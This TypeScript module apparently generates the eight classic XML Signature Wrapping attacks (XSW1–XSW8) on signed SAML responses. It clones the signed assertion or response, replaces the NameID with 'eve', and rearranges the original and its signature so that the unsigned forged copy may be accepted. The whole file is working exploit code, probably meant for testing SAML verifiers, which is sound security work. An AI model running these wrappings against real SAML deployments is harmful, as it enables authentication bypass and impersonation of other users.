import { DOMParser, XMLSerializer, type Changeable } from './document.ts'

/** Builds the eight classical forms of XML signature wrapping out of a genuinely signed response. The wrapped copy says another name. */
type Form = (document: Changeable) => void

const first = (node: Changeable, name: string): Changeable => {
  const [found] = Array.from(node.getElementsByTagNameNS('*', name))
  if (found === undefined) throw new Error(`no ${name}`)
  return found
}
const childNamed = (element: Changeable, name: string): Changeable => {
  const found = Array.from(element.childNodes).find((node) => node.localName === name)
  if (found === undefined) throw new Error(`${element.localName} has no ${name}`)
  return found
}

/** A copy with another ID that says the attacker's name, without its signature. */
function evilCopy(element: Changeable): Changeable {
  const copy = element.cloneNode(true)
  copy.setAttribute('ID', '_evil')
  copy.removeChild(childNamed(copy, 'Signature'))
  first(copy, 'NameID').textContent = 'eve'
  return copy
}

function replaceRoot(document: Changeable, place: (evil: Changeable, signature: Changeable, original: Changeable) => void): void {
  const original = document.documentElement
  const evil = evilCopy(original)
  const signature = childNamed(original, 'Signature')
  original.removeChild(signature)
  document.removeChild(original)
  document.appendChild(evil)
  place(evil, signature, original)
}

function wrapAssertion(document: Changeable, place: (evil: Changeable, original: Changeable, root: Changeable) => void): void {
  const original = first(document, 'Assertion')
  place(evilCopy(original), original, document.documentElement)
}

const takeSignature = (original: Changeable): Changeable => original.removeChild(childNamed(original, 'Signature'))

export const WRAPPINGS: { readonly [name: string]: Form } = {
  'XSW1: the response inside the signature of its copy': (document) =>
    replaceRoot(document, (evil, signature, original) => {
      signature.appendChild(original)
      evil.insertBefore(signature, childNamed(evil, 'Status'))
    }),
  'XSW2: the response beside the signature of its copy': (document) =>
    replaceRoot(document, (evil, signature, original) => {
      evil.insertBefore(original, childNamed(evil, 'Status'))
      evil.insertBefore(signature, childNamed(evil, 'Status'))
    }),
  'XSW3: a copy before the assertion': (document) => wrapAssertion(document, (evil, original, root) => void root.insertBefore(evil, original)),
  'XSW4: the assertion inside its copy': (document) =>
    wrapAssertion(document, (evil, original, root) => {
      root.replaceChild(evil, original)
      evil.appendChild(original)
    }),
  'XSW5: the copy with the signature, the assertion after it': (document) =>
    wrapAssertion(document, (evil, original, root) => {
      evil.insertBefore(takeSignature(original), childNamed(evil, 'Subject'))
      root.insertBefore(evil, original)
    }),
  'XSW6: the assertion inside the signature of its copy': (document) =>
    wrapAssertion(document, (evil, original, root) => {
      const signature = takeSignature(original)
      root.replaceChild(evil, original)
      signature.appendChild(original)
      evil.insertBefore(signature, childNamed(evil, 'Subject'))
    }),
  'XSW7: a copy in the extensions of the response': (document) =>
    wrapAssertion(document, (evil, original, root) => {
      const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
      extensions.appendChild(evil)
      root.insertBefore(extensions, original)
    }),
  'XSW8: the assertion in an object of the signature of its copy': (document) =>
    wrapAssertion(document, (evil, original, root) => {
      const signature = takeSignature(original)
      const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object')
      root.replaceChild(evil, original)
      object.appendChild(original)
      signature.appendChild(object)
      evil.insertBefore(signature, childNamed(evil, 'Subject'))
    }),
}

/** The message in a form of wrapping, or in several after each other. */
export function wrapped(xml: string, ...forms: readonly Form[]): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  for (const form of forms) form(document)
  return new XMLSerializer().serializeToString(document)
}
